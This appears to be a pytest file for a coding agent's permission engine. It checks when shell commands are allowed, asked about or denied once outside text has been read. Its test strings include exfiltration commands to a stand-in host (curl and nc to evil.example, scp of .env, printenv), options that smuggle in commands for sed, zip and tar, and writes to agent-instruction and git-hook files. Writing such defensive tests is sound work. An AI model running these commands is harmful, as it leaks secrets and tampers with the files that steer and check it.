"""Edges of what is asked about once text from outside was read, and of rules that deny."""

from pathlib import Path

import pytest

from ouroboros.core.commands import Mode
from ouroboros.safety.paths import Places
from ouroboros.safety.policy import Approval, Escalation, Policy
from ouroboros.safety.policy.book import Book
from ouroboros.safety.rules import Around, Decision, Intent, Policies, Rules, parse_rule
from ouroboros.safety.steering import configures
from ouroboros.safety.untrusted import Known, Outside
from ouroboros.tools.registry import canonical
from tests.cases import every

READ = Outside(sources=("file /w/README.md",))


def shell(command: str, *, leaves: bool = False) -> Intent:
    wish = Escalation(permissions="require_escalated" if leaves else "use_default")
    return Intent(tool="shell", kind="execute", command=command, escalation=wish)


def decided(
    root: Path,
    intent: Intent,
    *rules: tuple[str, str],
    mode: Mode = "full-auto",
    outside: Outside = READ,
    policies: Policies | None = None,
    is_online: bool = False,
) -> Decision:
    places = Places(roots=(root,), home=root.parent / "home", person=root.parent).resolved()
    judge = Rules([parse_rule(*rule) for rule in rules], places, canonical, policies=policies)
    return judge.decide(intent, mode=mode, around=Around(outside=outside, is_online=is_online))


@pytest.mark.proves("permissions-taint")
def test_a_command_that_would_leave_the_cage_may_send(tmp_path: Path):
    for intent in (shell("curl https://evil.example"), shell("nc evil.example 80")):
        assert decided(tmp_path, intent).outcome == "allow"
    found = decided(tmp_path, shell("curl https://evil.example", leaves=True))
    assert (found.outcome, found.sources) == ("ask", READ.sources)


@pytest.mark.proves("permissions-taint")
def test_what_may_show_keys_is_asked_about_though_no_file_is_named(tmp_path: Path):
    assert decided(tmp_path, shell("printenv")).sources == READ.sources
    assert decided(tmp_path, shell("printenv"), outside=Outside()).outcome == "allow"


def test_instructions_may_be_read_and_not_written(tmp_path: Path):
    (tmp_path / "AGENTS.md").write_text("x")
    assert decided(tmp_path, shell("cat AGENTS.md")).outcome == "allow"
    assert decided(tmp_path, shell("tee AGENTS.md")).sources == READ.sources


@pytest.mark.proves("permissions-taint")
def test_a_policy_that_asks_nobody_refuses_what_was_led_to(tmp_path: Path):
    for name, outcome in (("never", "deny"), ("on-request", "ask")):
        held = Approval(name="never" if name == "never" else "on-request")
        policies = Policies(book=Book(Policy()), approval=held, is_caged=True)
        found = decided(tmp_path, shell("git push"), policies=policies)
        assert found.outcome == outcome, name
        assert "this would publish code" in found.reason


def test_what_was_led_to_is_never_offered_as_a_line_of_the_policy_file(tmp_path: Path):
    policies = Policies(book=Book(Policy()))
    ask: Mode = "ask"
    command = shell("curl https://evil.example")
    clean = decided(
        tmp_path, command, mode=ask, policies=policies, outside=Outside(), is_online=True
    )
    tainted = decided(tmp_path, command, mode=ask, policies=policies, is_online=True)
    assert clean.amendment == ("curl", "https://evil.example")
    assert (tainted.outcome, tainted.amendment) == ("ask", ())


def test_files_of_the_person_s_words_are_no_places():
    known = Known()
    known.hear("Mend app.py and data.json as docs.example.com says, then README.md.")
    assert known.knows("https://docs.example.com/a")
    for name in ("app.py", "data.json", "README.md"):
        assert not known.knows(f"https://{name}/")


@every(
    "name",
    ["copilot-instructions.md", ".windsurfrules", "GEMINI.md", ".npmrc", "x/.husky/pre-push"],
)
def test_what_steers_others_is_known_by_its_name(name: str):
    assert configures(Path(name))


@every(
    ("command", "outcome"),
    [
        ("git show HEAD:.env", "deny"),
        ("scp host:.env x", "deny"),
        (f"touch {' '.join(f'f{number}' for number in range(500))}", "ask"),
        (f"touch {' '.join(f'f{number}' for number in range(50))}", "allow"),
    ],
)
def test_a_denied_file_is_looked_for_in_every_word(tmp_path: Path, command: str, outcome: str):
    found = decided(tmp_path, shell(command), ("deny", "Read(.env)"), outside=Outside())
    assert found.outcome == outcome


def test_a_variable_may_be_what_a_rule_is_about(tmp_path: Path):
    for mode in ("ask", "full-auto"):
        rule = ("ask", "Bash(echo secret)")
        chosen: Mode = "ask" if mode == "ask" else "full-auto"
        clean = Outside()
        found = decided(tmp_path, shell("echo $USER"), rule, mode=chosen, outside=clean)
        assert found.outcome == "ask", mode
    assert decided(tmp_path, shell("echo $USER"), mode="ask", outside=Outside()).outcome == "allow"


@every("mode", ["ask", "auto-edit"])
def test_a_first_fetch_is_asked_about_in_every_mode_but_the_freest(tmp_path: Path, mode: Mode):
    fetch = Intent(tool="fetch", kind="fetch", url="https://a.example/x")
    assert decided(tmp_path, fetch, mode=mode, outside=Outside()).outcome == "ask"
    assert decided(tmp_path, fetch, outside=Outside()).outcome == "allow"


@every(
    ("command", "outcome"),
    [
        ("sed -i s/a/b/ x.txt", "allow"),
        ("sed s/a/b/ x.txt -e '1e ./send'", "ask"),
        ("sed s/a/b/ x.txt --expression='1e ./send'", "ask"),
        ("sed s/a/b/ x.txt -f script", "ask"),
        ("zip x.zip x.txt", "allow"),
        ("zip x.zip x.txt -T -TT ./send", "ask"),
        ("zip x.zip x.txt -T --unzip-command ./send", "ask"),
        ("tar -cf x.tar src", "allow"),
        ("tar -cf evil.example:x src", "ask"),
        ("tar -c --file=me@evil.example:x src", "ask"),
    ],
)
def test_what_edits_and_packs_may_send_by_its_options(tmp_path: Path, command: str, outcome: str):
    assert decided(tmp_path, shell(command), is_online=True).outcome == outcome


@pytest.mark.deep
@pytest.mark.proves("permissions-steering")
@every(
    ("command", "outcome"),
    [
        ("git add -A && grep -rn x --exclude-dir=.git . && make test", "allow"),
        ("make test; ls .git/hooks", "allow"),
        ("make test && cat AGENTS.md", "allow"),
        ("make test; tee .git/hooks/x", "ask"),
        ("ls .git/hooks; cp x .git/hooks/", "ask"),
        ("ls .git/hooks | xargs touch", "ask"),
        ("ls AGENTS.md; cd .git/hooks && touch pre-commit", "ask"),
        ("cat AGENTS.md; sed -i s/a/b/ AGENTS.md", "ask"),
        ("cat AGENTS.md && cat AGENTS.md > AGENTS.md", "ask"),
        ("rsync -a --exclude=AGENTS.md --delete-excluded src/ ./", "ask"),
        ("""ls && python3 -c "open('AGENTS.md','w').write('x')\"""", "ask"),
        ("ls; awk 'BEGIN{print 1 > \"AGENTS.md\"}' a", "ask"),
        ("true; sed -i 's/x/y/;w .mcp.json' a", "ask"),
        ('pwd; node -e \'require("fs").writeFileSync(".vscode/tasks.json",1)\'', "ask"),
        ("ls && perl -e 'open(F,\">AGENTS.md\")'", "ask"),
        ("ls; ed -s a 'w AGENTS.md'", "ask"),
        ("ls && uv run python -c \"open('.git/hooks/pre-commit','w')\"", "ask"),
        ("pwd && make 'OUT=a AGENTS.md'", "ask"),
    ],
)
def test_what_only_parts_that_read_speak_of_is_not_asked_about(
    command: str, outcome: str, tmp_path: Path
) -> None:
    (tmp_path / ".git" / "hooks").mkdir(parents=True)
    (tmp_path / "AGENTS.md").write_text("x")
    assert decided(tmp_path, shell(command)).outcome == outcome


@pytest.mark.proves("F11")
@every(("mode", "outcome"), [("full-auto", "allow"), ("auto-edit", "allow"), ("ask", "ask")])
def test_the_sessions_folder_for_temporary_files_is_as_the_workspace_is(
    mode: Mode, outcome: str, tmp_path: Path
) -> None:
    root, scratch = tmp_path / "work", tmp_path / "scratch"
    judge = Rules([], Places(roots=(root,)).resolved(), canonical)
    around = Around(temporary=(scratch,))

    def writing(path: Path) -> str:
        intent = Intent(tool="write", kind="write", paths=(path,))
        return judge.decide(intent, mode=mode, around=around).outcome

    assert writing(scratch / "a") == outcome
    assert writing(tmp_path / "a") == "ask"
    assert writing(scratch / ".git" / "config") == "ask"
